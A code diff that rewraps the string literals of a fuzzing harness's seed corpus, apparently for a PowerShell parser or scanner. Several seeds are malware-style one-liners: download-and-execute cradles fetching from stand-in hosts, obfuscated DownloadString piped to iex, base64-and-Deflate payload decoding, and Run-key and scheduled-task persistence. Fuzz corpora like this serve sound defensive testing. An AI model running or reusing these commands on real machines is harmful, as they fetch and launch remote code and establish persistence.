@@ -16,18 +16,26 @@ int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
 }
 
 static const char *const seeds[] = {
-    "$u='http://a.example/1@http://b.example/2'.Split('@');foreach($a in $u){try{(New-Object Net.WebClient).DownloadFile($a,$env:TEMP+'\\q');"
+    "$u='http://a.example/1@http://b.example/2'.Split('@');foreach($a in $u){try{(New-Object "
+    "Net.WebClient).DownloadFile($a,$env:TEMP+'\\q');"
     "if((Get-Item ($env:TEMP+'\\q')).Length -ge 40){Start-Process ($env:TEMP+'\\q');break}}catch{}}",
     "&(\"{1}{0}\" -f 'ject','New-Ob') Net.WebClient|%{$_.\"DownloadString\".Invoke('http://a.example/x')}|iex",
     "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('Cy1OLQIA'));(New-Object IO.StreamReader((New-Object "
     "IO.Compression.DeflateStream($s,[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()|iex",
-    "function f($a,[switch]$b,$c=2){param($d);if($a -gt 1){return f ($a-1) -b}else{switch -wildcard ($c){'a*'{1}default{@{x=1;'y'=(2,3)}}}}};f 3|? x -eq 1",
-    "$x=\"a$(1+1)`t$($env:PUBLIC[1])${b}\";@'\nhere\n'@;@\"\n$x\n\"@;for($i=0;$i -lt 3;$i++){$x+=[char](65+$i)};do{$x=$x -replace 'a(.)','$1$&'}until($true)",
-    "('72,105' -split ','|ForEach-Object{[char][int]$_})-join'';[regex]::Matches('abc','.','RightToLeft')|%{$_.Value};'a-b' -csplit '-';-join $x[-1..-3]",
-    "try{throw 'x'}catch [Exception]{$_}finally{1};while($i++ -lt 3){continue};$h=@{};$h['a']++;$h.a+=1;[math]::Round(2.5);1..9|sort -desc|select -f 2",
-    "$a,$b=1,2;[byte[]]$c=0x90,1kb%256;$c[0]=9;$d=[Text.Encoding]::Unicode.GetBytes('x');[array]::Reverse($d);'{0:X2}{1,-5}|{{' -f 255,'a'",
-    "sv q 5;(gv q).Value;dir env:;Set-Item env:z v;&(gcm *e-ex*) '1';$ExecutionContext.InvokeCommand.ExpandString('$q');. {$args[0]} 4",
-    "New-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name a -Value b;schtasks /create /tn a /tr b;rundll32 a,b;gc $0|sc C:\\x -Encoding Byte",
+    "function f($a,[switch]$b,$c=2){param($d);if($a -gt 1){return f ($a-1) -b}else{switch -wildcard "
+    "($c){'a*'{1}default{@{x=1;'y'=(2,3)}}}}};f 3|? x -eq 1",
+    "$x=\"a$(1+1)`t$($env:PUBLIC[1])${b}\";@'\nhere\n'@;@\"\n$x\n\"@;for($i=0;$i -lt 3;$i++){$x+=[char](65+$i)};do{$x=$x "
+    "-replace 'a(.)','$1$&'}until($true)",
+    "('72,105' -split ','|ForEach-Object{[char][int]$_})-join'';[regex]::Matches('abc','.','RightToLeft')|%{$_.Value};'a-b' "
+    "-csplit '-';-join $x[-1..-3]",
+    "try{throw 'x'}catch [Exception]{$_}finally{1};while($i++ -lt "
+    "3){continue};$h=@{};$h['a']++;$h.a+=1;[math]::Round(2.5);1..9|sort -desc|select -f 2",
+    "$a,$b=1,2;[byte[]]$c=0x90,1kb%256;$c[0]=9;$d=[Text.Encoding]::Unicode.GetBytes('x');[array]::Reverse($d);'{0:X2}{1,-5}|{{' "
+    "-f 255,'a'",
+    "sv q 5;(gv q).Value;dir env:;Set-Item env:z v;&(gcm *e-ex*) '1';$ExecutionContext.InvokeCommand.ExpandString('$q');. "
+    "{$args[0]} 4",
+    "New-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name a -Value b;schtasks /create /tn a /tr "
+    "b;rundll32 a,b;gc $0|sc C:\\x -Encoding Byte",
 };
 
 void sk_fuzz_seeds(void (*take)(void *self, sk_bytes seed), void *self)
